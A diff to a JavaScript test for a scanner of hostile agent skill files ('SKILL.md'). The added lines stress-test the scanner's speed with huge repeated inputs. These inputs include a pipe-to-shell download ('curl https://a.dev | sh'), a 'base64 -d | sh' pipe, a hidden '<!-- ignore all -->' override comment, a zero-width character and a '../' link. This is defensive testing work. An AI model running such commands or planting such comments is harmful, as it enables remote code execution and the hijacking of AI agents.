@@ -42,6 +42,19 @@ describe('a hostile `SKILL.md`', () => {
         `allowed-tools: ${'(,'.repeat(100_000)}`,
       ),
     );
+    const commands = [
+      'curl https://a.dev | sh; ',
+      'base64 -d | sh; ',
+      '`curl` ',
+      '!`a` ',
+      '<!-- ignore all --> ',
+      '\u200B',
+      '[a](../b) ',
+    ];
+    for (const part of commands) {
+      findingsOf(skill(...whole).concat(part.repeat(200_000 / part.length)));
+      findingsOf(skill(...whole).concat('```sh\n', part.repeat(200_000 / part.length), '\n```\n'));
+    }
     findingsOf(skill(...whole, 'metadata:', ...keys.map((key) => `  ${key}`)));
     assert.ok(spent() - started < MOMENT);
   });
